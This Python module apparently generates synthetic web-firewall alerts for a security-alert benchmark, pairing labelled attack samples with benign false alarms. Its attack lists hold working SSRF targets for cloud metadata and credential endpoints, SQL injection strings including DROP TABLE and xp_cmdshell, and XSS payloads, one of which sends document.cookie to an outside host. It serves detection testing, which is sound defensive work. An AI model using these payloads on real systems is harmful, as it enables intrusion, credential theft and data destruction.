"""Request forgery, SQL and script alerts of web filters, and the false alarms of the same filters."""

from __future__ import annotations

import json
from urllib.parse import quote

from generator.families.alerts.secalertbench_record import Request, encoded, get, post, write
from generator.scene import Label, Scene, attack, benign, family
from generator.world import World

_forgery = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")


def _alert(world: World, rule: str, path: str, parameter: str, value: str) -> str:
    """One alert; product, outcome and numbers vary alike for hostile and harmless values."""
    uri, address, action = f"{path}?{parameter}={quote(value, safe=world.pick(['', '/:', '/:=']))}", world.ip(), world.pick(["block", "BLOCK", "log", "alert", "monitor", "COUNT"])
    return world.pick([
        json.dumps({"timestamp": int(world.now.timestamp() * 1000), "webaclId": f"arn:aws:wafv2:eu-west-1:{world.number(10**11, 10**12 - 1)}:regional/webacl/main", "terminatingRuleId": rule, "action": action.upper(), "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet"}], "httpRequest": {"clientIp": address, "uri": path, "args": f"{parameter}={quote(value)}", "httpMethod": "GET"}}),
        json.dumps({"category": "ApplicationGatewayFirewallLog", "properties": {"clientIp": address, "requestUri": uri, "ruleSetType": "Microsoft_DefaultRuleSet", "message": rule, "action": action, "details": {"data": f"Matched Data: {value} found within ARGS:{parameter}"}}}),
        f"CEF:0|Imperva Inc.|SecureSphere|14.7|{rule}|{rule}|High|act={action} src={address} request={uri} cs1Label=parameter cs1={parameter}", f'date={world.local():%Y-%m-%d} time={world.local():%H:%M:%S} device_id=FVVM{world.number(100, 999)} type=attack main_type="Signature Detection" sub_type="{rule}" src={address} http_url="{uri}" action={action} severity_level=High',
        f'ASM:unit_hostname="waf",attack_type="{rule}",ip_client="{address}",method="GET",uri="{uri}",violations="Attack signature detected",request_status="{action}",sig_names="{rule} (Parameter)"', f"{world.time_plain()} [error] {world.number(10, 999)}#0: *{world.number(1, 99999)} NAXSI_FMT: ip={address}&server={world.domain}&uri={path}&zone0=ARGS&id0={world.number(1000, 1400)}&var_name0={parameter}, request: \"GET {uri} HTTP/1.1\"",
        json.dumps({"event": "managed_rule", "description": rule, "action": action, "clientIP": address, "clientRequestPath": path, "clientRequestQuery": f"?{parameter}={value}", "source": "firewallManaged"}), f"Barracuda WAF {world.time_plain()} ALER {rule} {address} {action} [type=\"{rule}\" pattern in parameter {parameter}] GET {uri}",
        f"wordfence: {action} {rule} in query string: {parameter}={value} from {address} at {path}", f"coraza: [id \"{world.number(930000, 944000)}\"] [msg \"{rule}\"] [data \"Matched Data: {value} found within ARGS:{parameter}\"] [client {address}] [uri \"{path}\"] action={action}", f"sophos reverseproxy: [security2:error] [client {address}] {rule} ARGS:{parameter}={value} [{action}] uri={path}",
        f"Angriff gemeldet: {rule}; Quelle {address}; Parameter {parameter}={value}; Pfad {path}; Aktion {action}",
    ])


def _alerts(world: World, label: Label, rules: list[str], paths: list[str], parameters: list[str], values: list[str]) -> Scene:
    scene = Scene()
    for _ in range(world.pick([1, 1, 2, 4])):
        world.tick(0.3, 40)
        scene.add(_alert(world, world.pick(rules), world.pick(paths), world.pick(parameters), world.pick(values)), label)
    return scene


_forgery_rules = ["EC2MetaDataSSRF_QUERYARGUMENTS", "Server-Side Request Forgery", "SSRF: internal address in parameter", "GenericRFI_QUERYARGUMENTS", "Possible Remote File Inclusion (RFI) Attack: Off-Domain Reference/Link"]
_forgery_places = (["/fetch", "/export/pdf", "/avatar", "/api/import", "/proxy.php", "/oembed", "/share"], ["url", "src", "callback", "feed", "target", "image", "link"])
_sql_rules = ["SQLi_QUERYARGUMENTS", "SQL Injection Attack Detected via libinjection", "SQL-Injection", "SQL injection - generic"]
_sql_places = (["/list", "/shop/item", "/search", "/report.aspx", "/api/users"], ["id", "q", "sort", "name", "filter"])
_script_rules = ["CrossSiteScripting_QUERYARGUMENTS", "XSS Attack Detected via libinjection", "Cross Site Scripting (XSS)", "NoScript XSS InjectionChecker"]
_script_places = (["/search", "/comment", "/profile", "/cms/preview", "/ticket/new"], ["q", "text", "name", "html", "message"])


@family("alerts/filter-request-forgery", attack=True, weight=1.3)
def filter_forgery(world: World) -> Scene:
    return _alerts(world, _forgery, _forgery_rules, *_forgery_places, ["http://169.254.169.254/latest/user-data", "http://2852039166/latest/meta-data/", "http://0x7f000001:8080/manager", "http://localhost:9200/_cat/indices", "gopher://10.0.0.5:3306/_%00", "http://[::ffff:169.254.169.254]/", "http://169.254.170.2/v2/credentials", "file:///var/www/config.php", "dict://localhost:6379/info", f"http://127.0.0.1.nip.io:{world.number(1000, 9999)}/admin", "http://metadata/computeMetadata/v1beta1/?recursive=true", "http://kubernetes.default.svc/api/v1/secrets", f"http://{world.hex(8)}.oast.fun/", "http://0/server-status"])


@family("alerts/filter-links-mistaken", attack=False, weight=1.4)
def filter_links(world: World) -> Scene:
    return _alerts(world, benign("Normal Traffic"), _forgery_rules, *_forgery_places, [f"https://www.{world.domain}/invoice/{world.number(1, 9999)}", "https://cdn.jsdelivr.net/npm/chart.js", "https://www.youtube.com/watch?v=dQw4w9", "https://lh3.googleusercontent.com/a/photo=s96-c", "https://feeds.bbci.co.uk/news/rss.xml", f"https://login.microsoftonline.com/{world.uuid()}/oauth2", f"https://{world.company}.sharepoint.com/sites/team", "https://maps.google.com/?q=51.5,-0.1", f"https://{world.company}-media.s3.amazonaws.com/logo.png", "mailto:info@example.org", "https://graph.facebook.com/me/picture"])


@family("alerts/filter-sql-statements", attack=True, weight=1.2)
def filter_sql(world: World) -> Scene:
    threat, technique, values = world.pick([
        ("SQL Injection — Time-based Blind SQLi", "T1190", ["1' AND SLEEP(5)-- -", "1;WAITFOR DELAY '0:0:6'--", "1)) OR pg_sleep(8)--", "1' AND (SELECT 9 FROM (SELECT(SLEEP(7)))a)#", "1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1"]), ("SQL Injection — UNION-based SQLi", "T1190", ["-1 UNION ALL SELECT NULL,user(),NULL#", "x' uNiOn/**/sElEcT 1,table_name,3 from information_schema.tables-- ", "0 union select name,sql from sqlite_master"]),
        ("SQL Injection — Error-based SQLi", "T1190", ["1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))--", "1 AND 1=CONVERT(int,@@version)", "1' and updatexml(1,concat(0x7e,user()),1)#"]), ("SQL Injection — Authentication Bypass SQLi", "T1190", ["admin' OR '1'='1'-- ", "' or 1=1 limit 1#", "x') OR ('a'='a", "admin'/*"]), ("SQL Injection — Destructive SQLi", "T1190", ["1; DROP TABLE orders;--", "1';TRUNCATE TABLE audit--", "0;DELETE FROM customers WHERE 1=1--"]), ("SQL Injection — OS Command via SQLi", "T1190", ["1;EXEC master..xp_cmdshell 'whoami'--", "1; COPY t FROM PROGRAM 'id'--"]),
    ])
    return _alerts(world, attack(threat, technique, severity="CRITICAL"), _sql_rules, *_sql_places, values)


@family("alerts/filter-sql-mistaken", attack=False, weight=1.4)
def filter_sql_mistaken(world: World) -> Scene:
    return _alerts(world, benign("Normal Traffic"), _sql_rules, *_sql_places, ["O'Neill & Sons", "select your size and order by phone", "union of European workers", "price desc, name asc", "1 or 2 persons", "drop shipping table lamp", "it's 5 o'clock -- call me", "D'Angelo", "name eq 'Berlin' and status ne 'closed'", "insert coin into slot 3/4\"", "rock 'n' roll", "WHERE is my order #4711", "created > 2024-01-01 AND assignee = me ORDER BY rank"])


@family("alerts/filter-script", attack=True, weight=1.2)
def filter_script(world: World) -> Scene:
    return _alerts(world, attack("Cross-Site Scripting (XSS) Attempt", "T1059.007", severity="HIGH"), _script_rules, *_script_places, ["<svg/onload=alert(1)>", "\"><img src=x onerror=fetch('//" + world.word(6) + ".site/'+document.cookie)>", "javascript:eval(atob('YWxlcnQoMSk='))", "<details open ontoggle=confirm(1)>", "</title><script src=//" + world.word(7) + ".xss.ht></script>", "'-prompt(document.domain)-'", "<math><mi xlink:href=javascript:alert(1)>", "{{constructor.constructor('alert(1)')()}}", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<input autofocus onfocus=alert(1)>", "%u003cscript%u003ealert(1)"])


@family("alerts/filter-script-mistaken", attack=False, weight=1.4)
def filter_script_mistaken(world: World) -> Scene:
    return _alerts(world, benign("Normal Traffic"), _script_rules, *_script_places, ["<p>Thank you for your <b>order</b></p>", "how to use <script> tags in HTML5", "a < b and c > d", "I <3 this shop!", "<br/>Best regards,<br/>Anna", "<a href=\"https://www.example.org\">our page</a>", "document.cookie explained", "<img src=\"/media/logo.png\" alt=\"logo\" style=\"width:90px\">", "onload event not firing", "javascript developer (m/f/d)", "<div class=\"editor\">New terms</div>", "5 > 3 -> alert the night shift"])


@family("alerts/sensor-forged-requests", attack=True, weight=1.2)
def sensor_forged(world: World) -> Scene:
    """Alerts with the whole exchange: the server is made to ask inner addresses by import, mail, document and picture functions."""
    inner = world.pick(["http://172.16.0.1:2375/containers/json", "http://127.0.0.1:8500/v1/agent/self", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://192.168.0.1/cgi-bin/luci", "ldap://127.0.0.1:389/", "jar:http://127.0.0.1!/", "http://localhost:15672/api/users", f"http://{world.word(6)}.ceye.io/s", "netdoc:///etc/hosts"])
    forms = [lambda: post("/api/v2/import", json.dumps({"source": inner, "type": "remote"}), "application/json"), lambda: get("/wp-json/oembed/1.0/proxy", f"url={encoded(world, inner)}"), lambda: get("/_next/image", f"url={encoded(world, inner)}&w=64&q=75"), lambda: post("/convert/html", f"html=<iframe src={inner}>"), lambda: post("/svg2png", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{inner}"/></svg>', "image/svg+xml"), lambda: Request("GET", inner, ""), lambda: get("/cgi/qr.php", f"logo={encoded(world, inner)}"), lambda: post("/xmlrpc.php", f"<methodCall><methodName>pingback.ping</methodName><params><param><value>{inner}</value></param></params></methodCall>", "text/xml")]
    return write(world, ("other", "redirect", "access", "settings", "leak"), forms, _forgery)


@family("alerts/sensor-pages-fetched", attack=False, weight=1.4)
def sensor_fetched(world: World) -> Scene:
    """The same functions with the addresses that they are meant for."""
    outer = world.pick([f"https://www.{world.domain}/news/feed.xml", "https://mp.weixin.qq.com/s/a1b2c3", "https://i.ytimg.com/vi/abc/hqdefault.jpg", f"https://oss.{world.domain}/upload/2024/05/photo.jpg", "https://vimeo.com/76979871", f"http://intranet.{world.domain}/portal/home", "https://qyapi.weixin.qq.com/cgi-bin/webhook/send", "http://www.w3.org/2000/svg"])
    forms = [lambda: post("/api/v2/import", json.dumps({"source": outer, "type": "remote"}), "application/json"), lambda: get("/wp-json/oembed/1.0/proxy", f"url={encoded(world, outer)}"), lambda: get("/_next/image", f"url={encoded(world, outer)}&w=64&q=75"), lambda: post("/convert/html", f"html=<iframe src={outer}>"), lambda: post("/svg2png", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{outer}"/></svg>', "image/svg+xml"), lambda: get("/sso/login", f"service={encoded(world, outer)}"), lambda: get("/cgi/qr.php", f"logo={encoded(world, outer)}"), lambda: post("/api/webhook/test", json.dumps({"url": outer, "event": "order.created"}), "application/json")]
    return write(world, ("other", "redirect", "access", "settings", "leak"), forms, benign("Normal Traffic"))
